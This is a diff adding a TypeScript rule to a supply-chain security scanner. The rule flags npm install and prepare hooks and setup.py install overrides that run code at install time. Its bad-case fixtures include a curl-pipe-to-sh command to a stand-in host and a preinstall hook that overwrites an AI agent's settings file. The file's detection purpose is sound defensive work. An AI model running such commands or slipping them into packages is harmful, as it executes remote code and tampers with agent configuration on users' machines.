@@ -1,0 +1,103 @@
+import { findConfigs } from '../../behaviour/find-configs.ts';
+import { judgeCommand, type CommandRisk } from '../../behaviour/judge-command.ts';
+import { walkConfig } from '../../behaviour/walk-config.ts';
+import { agentConfigPath } from '../../behaviour/agent-config-path.ts';
+import type { Severity } from '../../contract/severity.ts';
+import { defineRule } from '../define-rule.ts';
+import type { Evidence } from '../evidence.ts';
+import type { TextFile } from '../../artefacts/text-file.ts';
+
+const hook =
+  /(?:^|\.)scripts\.(?:pre|post)?install$|(?:^|\.)scripts\.(?:prepare|preprepare|postprepare|preuninstall)$/;
+const severities: Readonly<Record<CommandRisk, Severity>> = {
+  'remote-code': 'critical',
+  sends: 'critical',
+  'reads-secret': 'critical',
+  destroys: 'critical',
+  agent: 'critical',
+  'writes-config': 'critical',
+  decodes: 'high',
+  approves: 'high',
+  injectable: 'high',
+  'inline-code': 'high',
+  fetches: 'high',
+};
+const tool =
+  /^(?:npx\s)?(?:husky|lefthook|simple-git-hooks|patch-package|prisma|node-gyp|prebuild-install|node-gyp-build|tsc|npm run [\w:-]{1,30}|pnpm [\w:-]{1,30}|yarn [\w:-]{1,30}|is-ci|ngcc|electron-builder|opencollective|playwright|puppeteer|esbuild|only-allow|exit 0|true|:)/;
+
+export const lifecycleScript = defineRule({
+  reads: 'artefact',
+  id: 'supply/lifecycle-script',
+  title: 'A package runs code as it is installed',
+  severity: 'critical',
+  confidence: 0.85,
+  lane: 'enforce',
+  category: 'SUPPLY_CHAIN',
+  ideas: [51, 105],
+  kinds: 'all',
+  cwe: [829, 506],
+  owasp: ['LLM03:2025', 'ASI04', 'AST02', 'MCP04:2025'],
+  atlas: ['T0010.005', 'T0081'],
+  why: 'Installing is enough: the script runs with the user’s rights before anything of the package is used.',
+  fix: 'Leave install scripts out, or limit them to building native code.',
+  fixable: 'llm',
+  check: function* check(artefact) {
+    for (const file of artefact.files) {
+      if (/(?:^|\/)package\.json$/.test(file.path)) yield* inManifest(file);
+      if (/(?:^|\/)setup\.py$/.test(file.path)) yield* inSetup(file);
+    }
+  },
+  examples: {
+    bad: [
+      {
+        path: 'package.json',
+        text: '{\n  "name": "notes",\n  "scripts": {\n    "postinstall": "curl -s https://get.notekeeper.test/i | sh"\n  }\n}\n',
+        lines: [4],
+      },
+      {
+        path: 'package.json',
+        text: '{\n  "scripts": {\n    "preinstall": "cp hook.json ~/.claude/settings.json"\n  }\n}\n',
+        lines: [3],
+      },
+      {
+        path: 'setup.py',
+        text: 'from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n\nclass Run(install):\n    def run(self):\n        os.system("curl -s https://get.notekeeper.test/i | sh")\n\nsetup(cmdclass={"install": Run})\n',
+        lines: [7],
+      },
+    ],
+    good: [
+      {
+        path: 'package.json',
+        text: '{ "scripts": { "prepare": "husky", "postinstall": "patch-package", "test": "vitest" } }\n',
+      },
+      { path: 'package.json', text: '{ "scripts": { "postinstall": "node-gyp rebuild" } }\n' },
+    ],
+  },
+});
+
+function* inManifest(file: TextFile): Iterable<Evidence> {
+  for (const { root } of findConfigs(file, /install|prepare/)) {
+    for (const node of walkConfig(root)) {
+      if (node.kind !== 'string' || !hook.test(node.path)) continue;
+      const place = { file, start: node.start, end: node.end };
+      const risk = judgeCommand(node.text);
+      if (risk !== null) yield { place, severity: severities[risk] };
+      else if (agentConfigPath.test(node.text)) yield { place, severity: 'high' };
+      else if (!tool.test(node.text.trim()) && /install$/.test(node.path))
+        yield { place, severity: 'low' };
+    }
+  }
+}
+
+function* inSetup(file: TextFile): Iterable<Evidence> {
+  if (!/cmdclass|setuptools\.command/.test(file.text)) return;
+  for (const match of file.text.matchAll(
+    /\b(?:os\.system|subprocess\.\w{3,14}|os\.popen|exec|urlopen|requests\.(?:get|post))\s{0,2}\([^\n]{0,400}/g,
+  )) {
+    const risk = judgeCommand(match[0]);
+    yield {
+      place: { file, start: match.index, end: match.index + match[0].length },
+      severity: risk === null ? 'medium' : severities[risk],
+    };
+  }
+}
